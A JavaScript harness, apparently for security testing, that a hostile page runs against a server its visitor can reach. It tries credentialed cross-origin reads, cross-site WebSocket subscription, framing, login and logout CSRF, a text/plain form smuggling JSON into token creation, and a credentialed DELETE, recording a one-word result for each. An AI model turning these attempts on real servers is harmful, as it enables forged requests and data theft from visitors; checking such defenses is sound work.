// What a hostile page tries against a server that its visitor can reach. Each attempt returns, in a word, what it got.
"use strict";

const WITHIN_MS = 10_000;

/** The outcome of a promise, "blocked" where the browser lets nothing through. */
async function outcome(promise) {
  const timer = new Promise((resolve) => setTimeout(() => resolve("nothing"), WITHIN_MS));
  return Promise.race([promise, timer]).catch(() => "blocked");
}

const read = async (url, options) => {
  const answer = await fetch(url, options);
  if (answer.type === "opaque") return (await answer.text()) === "" ? "opaque" : "READ";
  const text = await answer.text();
  return `${answer.status}${/"metrics":|"panels":|"token":/.test(text) ? " READ" : ""}`;
};

/** A subresource: whether it loads. */
const element = (tag, set) =>
  new Promise((resolve) => {
    const made = Object.assign(document.createElement(tag), set);
    made.onload = () => resolve("loaded");
    made.onerror = () => resolve("blocked");
    document.body.append(made);
  });

/** A socket: what it is told before it ends, or within a moment. */
const socket = (url, protocols) =>
  new Promise((resolve) => {
    const opened = new WebSocket(url, protocols);
    opened.onmessage = ({ data }) => {
      const message = JSON.parse(data);
      if (message.auth === "required") {
        opened.send(JSON.stringify({ type: "subscribe", id: 1, stream: "all", metrics: [">"] }));
      } else {
        opened.close();
        resolve(message.type === "error" ? `told ${message.code}` : `READ ${message.type}`);
      }
    };
    opened.onclose = ({ code }) => resolve(`closed ${code}`);
  });

/** A form, sent into a frame: what the frame shows stays the browser's. */
const form = (action, enctype, fields) =>
  new Promise((resolve) => {
    const name = `frame-${Math.random()}`;
    const frame = Object.assign(document.createElement("iframe"), { name });
    document.body.append(frame);
    const made = Object.assign(document.createElement("form"), { action, enctype, method: "post", target: name });
    for (const [key, value] of Object.entries(fields)) {
      made.append(Object.assign(document.createElement("input"), { name: key, value }));
    }
    document.body.append(made);
    frame.onload = () => resolve(frame.contentDocument?.body.innerText ? "READ" : "unread");
    made.submit();
  });

const frame = (url) =>
  new Promise((resolve) => {
    const made = Object.assign(document.createElement("iframe"), { src: url });
    made.onload = () => {
      try {
        resolve(made.contentWindow.document.body.innerText ? "READ" : "empty");
      } catch {
        resolve("unread");
      }
    };
    document.body.append(made);
  });

/** All attempts at one server. `loot` is a token of the attacker's own, to log the visitor in with. */
window.attack = async (base, loot) => {
  const sockets = `${base.replace("http", "ws")}/ws`;
  const wish = JSON.stringify({ scope: "embed", dashboard: true });
  const json = { method: "POST", headers: { "Content-Type": "application/json" }, body: wish };
  const attempts = {
    fetch: read(`${base}/api/v1/latest`),
    "fetch with cookies": read(`${base}/api/v1/latest`, { credentials: "include" }),
    "fetch without CORS": read(`${base}/api/v1/latest`, { mode: "no-cors", credentials: "include" }),
    "fetch of the metrics": read(`${base}/metrics`, { mode: "no-cors", credentials: "include" }),
    "fetch of the page": read(`${base}/`, { mode: "no-cors", credentials: "include" }),
    socket: socket(sockets, ["vitalcast.v1.json"]),
    "plain socket": socket(sockets),
    "script of JSON": element("script", { src: `${base}/api/v1/panels` }),
    "style of JSON": element("link", { rel: "stylesheet", href: `${base}/api/v1/panels` }),
    badge: element("img", { src: `${base}/badge/cpu.svg` }),
    still: element("img", { src: `${base}/api/v1/panels/cpu.svg` }),
    "frame of the page": frame(`${base}/`),
    "frame of the log-in": frame(`${base}/login`),
    "frame of a panel": frame(`${base}/embed/panel/cpu`),
    "frame of JSON": frame(`${base}/api/v1/latest`),
    "log-in form": form(`${base}/login`, "application/x-www-form-urlencoded", { token: loot }),
    "log-out form": form(`${base}/logout`, "application/x-www-form-urlencoded", {}),
    "token by a form": form(`${base}/api/v1/tokens`, "text/plain", { '{"scope":"embed","dashboard":true,"name":"': '"}' }),
    "token by fetch": read(`${base}/api/v1/tokens`, json),
    "token by fetch without CORS": read(`${base}/api/v1/tokens`, { method: "POST", mode: "no-cors", body: wish }),
    "screen turned out": read(`${base}/api/v1/screens/any`, { method: "DELETE", credentials: "include" }),
    code: element("script", { type: "module", src: `${base}/embed.js` }),
  };
  const found = {};
  for (const [name, attempt] of Object.entries(attempts)) found[name] = await outcome(attempt);
  return found;
};
